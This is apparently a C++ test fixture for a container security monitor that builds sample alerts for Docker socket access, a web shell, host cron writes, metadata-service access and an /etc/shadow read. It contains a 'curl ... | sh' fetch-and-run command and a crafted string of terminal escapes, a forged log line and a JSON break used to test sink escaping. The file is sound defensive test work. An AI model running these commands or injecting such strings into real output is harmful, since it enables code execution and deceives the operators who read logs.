// SPDX-License-Identifier: Apache-2.0
// One alert of each shape, made by the incidents room from real events.
#pragma once

#include <fcntl.h>

#include <vector>

#include "incidents/incidents.h"
#include "support/scene.h"

namespace overboard::sinks {

class Samples {
public:
    std::vector<incidents::Alert> all() {
        return {runtime_socket(), web_shell(), host_write(), metadata(), failed_exec(), on_the_host(), hostile()};
    }

    static incidents::Alert runtime_socket() {
        test::Scene s;
        s.rule.output = s.finding.output =
            "/usr/bin/ruby3.1 (pid 4711) in app connected to /run/docker.sock as /run/innocent.sock";
        s.finding.evidence = {{"socket.peer_is_runtime", "true"}};
        s.seen.peer = {
            .is_runtime = true, .runtime = "docker", .host_path = "/run/docker.sock", .exe = "/usr/bin/dockerd"};
        return alert(s, test::innocent_socket());
    }
    static incidents::Alert web_shell() {
        test::Scene s;
        s.rule.id = "web-shell";
        s.rule.name = "Shell executed by a web server";
        s.rule.tags = {"web-shell", "T1190", "T1059.004", "OWASP-API8"};
        s.rule.remediation_app = "run programs from an argument list, never through a shell";
        s.rule.remediation_pod.clear();
        s.process.args = {"sh", "-c",
                          "curl -H 'Authorization: Bearer " + std::string(24, 'x') + "1' http://10.0.0.9/ | sh"};
        s.finding.evidence = {{"proc.name", "sh"}, {"server.kind", "web"}};
        return alert(s, test::exec("/usr/bin/dash").args(s.process.args));
    }
    static incidents::Alert host_write() {
        test::Scene s;
        s.rule.id = "host-mount-write";
        s.rule.name = "Host file opened for writing";
        s.rule.tags = {"host-mount-write", "T1611", "T1053.003"};
        test::FileSpec file{"/host/etc/cron.d/x", "/etc/cron.d/x"};
        file.device = 254U << 20 | 1;
        file.inode = 1234;
        file.flags = 0;
        s.seen.host = {.mounted = true, .path = "/etc/cron.d/x", .cls = enrich::HostClass::cron};
        return alert(s, test::open(file, O_WRONLY | O_CREAT | O_APPEND).folded(11));
    }
    static incidents::Alert metadata() {
        test::Scene s;
        s.rule.id = "metadata-service";
        s.rule.name = "Cloud metadata service reached";
        s.rule.priority = engine::Priority::warning;
        s.rule.tags = {"metadata-service", "T1552.005"};
        s.process = s.server;
        s.ancestry.listed.clear();
        s.container.pod.reset();
        s.container.privileged.reset();
        return alert(s, test::connect_inet("fd00:ec2::254", 80), 4650);
    }
    static incidents::Alert failed_exec() {
        test::Scene s;
        s.rule.id = "failed-exec";
        s.rule.name = "Web server tried a shell that is not there";
        s.rule.priority = engine::Priority::informational;
        s.rule.tags = {"failed-exec"};
        return alert(s, test::exec_failed("/bin/bash"));
    }
    static incidents::Alert on_the_host() {
        test::Scene s;
        s.with_server = s.with_container = false;
        s.rule.remediation_pod.clear();
        s.rule.references.clear();
        s.finding.evidence.clear();
        return alert(s, test::open_denied("/etc/shadow", EACCES, O_RDWR));
    }
    // Every name is an attack on whoever reads it.
    static incidents::Alert hostile() {
        const std::string evil =
            "a\x1b[2J\x1b]0;owned\x07\r\n14:02:11 CRITICAL  forged\u202e\u0085\xff\xc3\",\"rule\":\"x";
        test::Scene s;
        s.process.exe = s.server.exe = s.finding.output = s.container.name = s.container.image = evil;
        s.process.args = s.server.args = {evil, std::string(128 * 1024, '\x1b')};
        s.ancestry.listed = {test::Scene::made(1, evil, {evil})};
        s.container.pod->name = s.container.pod->ns = evil;
        s.finding.evidence = {{"proc.cmdline", evil}};
        return alert(s, test::open(test::FileSpec{"/" + evil, "/x"}));
    }

private:
    template <class Builder>
    static incidents::Alert alert(test::Scene& scene, Builder builder, std::uint32_t pid = 4711) {
        static const auto redactor = base::Redactor::make({}).value();
        incidents::Alert out;
        incidents::Incidents incidents({.node = "n1", .boot_id = "b0071d"}, *redactor,
                                       [&](const incidents::Alert& a) { out = a; });
        scene.pid = pid;
        incidents.raise(scene.judge(std::move(builder)), scene.ancestry);
        return out;
    }
};

}  // namespace overboard::sinks
